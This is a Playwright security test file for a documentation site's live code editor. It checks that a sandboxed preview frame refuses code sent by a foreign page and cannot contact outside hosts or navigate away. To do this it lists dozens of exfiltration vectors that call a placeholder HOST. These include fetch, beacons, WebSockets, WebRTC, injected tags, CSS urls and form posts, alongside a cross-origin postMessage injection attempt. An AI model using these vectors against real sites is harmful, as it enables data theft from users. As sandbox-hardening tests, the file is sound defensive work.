import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { startForeignHost, type ForeignHost } from '../foreign-host';
import { openSample, result } from '../open-page';
import { sites } from '../sites';
import { expect, test } from '../test';

let foreign: ForeignHost;

test.beforeEach(async () => {
  foreign = await startForeignHost('<!doctype html><title>Foreign</title><button>Open</button>');
});
test.afterEach(() => foreign.close());

/** Puts `code` in the place of the first sample. */
const fill = (page: Page, code: string) =>
  page.getByRole('textbox', { name: 'Live Editor' }).first().fill(code);

async function runSample(page: Page, code: string) {
  await openSample(page);
  await fill(page, code);
}

/** URL of the page that runs samples. */
async function findFrame(page: Page, baseURL: string) {
  await page.goto('markdown-page');
  const source = await page.locator('[data-live]').first().getAttribute('data-src');
  return new URL(source!, baseURL).href;
}

/** Serves the frame's page as a host does that sends no headers of the site's. */
const withoutHeaders = (page: Page) =>
  page.context().route('**/live-frame/*.html', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { 'content-type': 'text/html' } });
  });

/** How a foreign site may open the frame: in a frame of its own, with these rights, or in a window. */
const waysToOpen = ['plain', 'allow-scripts allow-forms', 'allow-scripts allow-same-origin', 'window'];

/** Has the foreign page ask all that it opens to run code, again and again; returns whatever came of it. */
async function attack(page: Page, frame: string) {
  await page.goto(foreign.url);
  await page.evaluate(
    ([url, ways]) => {
      const code = 'window.ran = true; localStorage.attacked = 1; render("ran")';
      const heard: unknown[] = [];
      Object.assign(window, { heard });
      window.addEventListener('message', ({ data }) => heard.push(data));
      const open = (way: string) => {
        if (way === 'window') return window.open(url);
        const element = document.createElement('iframe');
        if (way !== 'plain') element.setAttribute('sandbox', way);
        element.src = url;
        document.body.append(element);
        return element.contentWindow;
      };
      document.querySelector('button')!.onclick = () => {
        const targets = ways.map(open);
        setInterval(() => {
          for (const target of targets) {
            target?.postMessage({ type: 'run', run: 1, code, noInline: true }, '*');
          }
        }, 50);
      };
    },
    [frame, waysToOpen] as const,
  );
  const opened = page.waitForEvent('popup');
  await page.getByRole('button').click();
  const popup = await opened;
  // Nothing shows that nothing will come; what comes, comes within a moment of the page's load.
  await page.waitForTimeout(2500);
  const frames = [page, popup].flatMap((each) => each.frames());
  const ran = await Promise.all(frames.map((each) => each.evaluate(() => 'ran' in window)));
  await popup.close();
  return { heard: await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard), ran };
}

// The headers of a host only add to what the page itself does: the last test is about them.
test('a foreign site gets no answer and runs nothing, in frames and a window', async ({ page, baseURL }) => {
  const frame = await findFrame(page, baseURL!);
  await withoutHeaders(page);
  const none = [page.mainFrame(), ...waysToOpen].map(() => false);
  expect(await attack(page, frame)).toEqual({ heard: [], ran: none });
});

test('a sample runs where the host sends no headers', async ({ page }) => {
  await withoutHeaders(page);
  await runSample(page, '() => <p>{self.origin} {location.protocol}</p>');
  await expect(result(page).getByText('null http:')).toBeVisible();
});

/** Statements by which a sample may try to reach a host; `HOST` and `PORT` stand for the foreign host. */
const waysToAHost = [
  'fetch("HOST/fetch")',
  'navigator.sendBeacon("HOST/beacon", "x")',
  'const request = new XMLHttpRequest(); request.open("GET", "HOST/xhr"); request.send()',
  'new WebSocket("HOST/socket".replace("http", "ws"))',
  'new EventSource("HOST/events")',
  'import("HOST/module.js")',
  'new Worker("HOST/worker.js")',
  'new Worker(URL.createObjectURL(new Blob(["fetch(\'HOST/blob-worker\')"])))',
  'new FontFace("x", "url(HOST/font-face)").load()',
  'new Audio("HOST/audio").play()',
  'open("HOST/window")',
  'top.location = "HOST/top"',
  'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }).createDataChannel("x")',
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] });
   peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  `const inner = document.createElement("iframe"); document.body.append(inner);
   new inner.contentWindow.Image().src = "HOST/inner-image"`,
  ...[
    '<img src="HOST/image">',
    '<img srcset="HOST/image-set 1x">',
    '<input type="image" src="HOST/input">',
    '<video src="HOST/video" poster="HOST/poster"></video>',
    '<video><source src="HOST/source"><track default src="HOST/track"></video>',
    '<object data="HOST/object"></object>',
    '<embed src="HOST/embed">',
    '<iframe src="HOST/frame"></iframe>',
    `<iframe srcdoc="<img src='HOST/inner'>"></iframe>`,
    '<svg><image href="HOST/svg-image" width="9" height="9" /><use href="HOST/svg-use#x" /></svg>',
    '<style>@import "HOST/import.css"; @font-face { font-family: x; src: url(HOST/font) }</style>',
    '<p style="font-family: x; background: url(HOST/background); cursor: url(HOST/cursor), auto">x</p>',
    '<link rel="stylesheet" href="HOST/sheet.css">',
    '<link rel="prefetch" href="HOST/prefetch">',
    '<link rel="preload" as="fetch" href="HOST/preload">',
    '<link rel="modulepreload" href="HOST/modulepreload">',
    '<link rel="preconnect" href="HOST">',
    '<link rel="dns-prefetch" href="HOST">',
    '<link rel="icon" href="HOST/icon">',
    '<link rel="manifest" href="HOST/manifest">',
  ].map((markup) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)})`),
  ...[
    ['script', '{ src: "HOST/script.js" }'],
    ['script', '{ textContent: "new Image().src = \'HOST/inline\'" }'],
    ['base', '{ href: "HOST" }'],
  ].map(
    ([name, fields]) => `document.head.append(Object.assign(document.createElement("${name}"), ${fields}))`,
  ),
  'document.body.insertAdjacentHTML("beforeend", "<a href=\'#x\' ping=\'HOST/ping\'>x</a>"); document.links[0].click()',
];

const namingHost = (code: string) =>
  code.replaceAll('HOST', foreign.url).replaceAll('PORT', String(foreign.packetPort));

test('a sample reaches no host, and a form its handler alone', async ({ page }) => {
  const ways = waysToAHost.map((way) => `async () => { ${namingHost(way)} }`);
  await runSample(
    page,
    `() => {
      const [tried, setTried] = useState(0);
      useEffect(() => {
        const ways = [${ways.join(',\n')}];
        for (const way of ways) way().catch(() => undefined);
        setTimeout(() => setTried(ways.length), 1500);
      }, []);
      return <p>tried {tried}</p>;
    }`,
  );
  await expect(result(page).getByText(`tried ${waysToAHost.length}`)).toBeVisible();
  expect(foreign.received).toEqual([]);
  await fill(
    page,
    namingHost(`() => {
      const [sent, setSent] = useState("nothing");
      const onSubmit = (event) => { event.preventDefault(); setSent("all") };
      return <form action="HOST/form" onSubmit={onSubmit}><button>Send</button><p>sent {sent}</p></form>;
    }`),
  );
  await result(page).getByRole('button', { name: 'Send' }).click();
  await expect(result(page).getByText('sent all')).toBeVisible();
  await fill(page, namingHost('() => <form method="post" action="HOST/form"><button>Post</button></form>'));
  await result(page).getByRole('button', { name: 'Post' }).click();
  await page.waitForTimeout(1000);
  expect(foreign.received).toEqual([]);
});

/** How a sample may leave its page, and take with it what the reader wrote. */
const waysToLeave = {
  'by its location': 'location.href = "HOST/location"',
  'by a refresh':
    'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0; url=HOST/refresh\'>")',
  'to a page of the site': 'location.href = new URL("../docs/tutorial/types", location.href)',
  'to data': 'location.href = "data:text/html,<img src=HOST/data>"',
  'to its own page': 'location.reload()',
};

test('a sample that leaves its page in any way reaches no host and is ended', async ({ page }) => {
  test.slow();
  await openSample(page);
  const left = page.getByText(/^The preview navigated away and was stopped/);
  for (const [name, code] of Object.entries(waysToLeave))
    await test.step(name, async () => {
      await fill(page, `() => { useEffect(() => { ${namingHost(code)} }, []); return "leaving" }`);
      await expect(left).toBeVisible({ timeout: 20_000 });
      await expect(page.getByRole('button', { name: 'Retry' })).toBeVisible();
      expect.soft(foreign.received).toEqual([]);
      // The next one runs in a new frame.
      await fill(page, '() => <p>here</p>');
      await expect(result(page).getByText('here')).toBeVisible({ timeout: 20_000 });
      await expect(left).toBeHidden();
    });
});

test('the host sends the headers that a page cannot set itself', async ({ page, baseURL, request }) => {
  const policyOf = async (url: string) => (await request.get(url)).headers()['content-security-policy'];
  expect(await policyOf(await findFrame(page, baseURL!))).toBe(
    "frame-ancestors 'self'; sandbox allow-scripts allow-forms",
  );
  for (const path of ['', 'docs/tutorial/types', 'no/such/page'])
    expect(await policyOf(`${baseURL}${path}`)).toBe("frame-ancestors 'self'");
  expect(readFileSync(`${sites.shipped.outDir}/_headers`, 'utf8')).toContain('/live-frame/*\n');
});
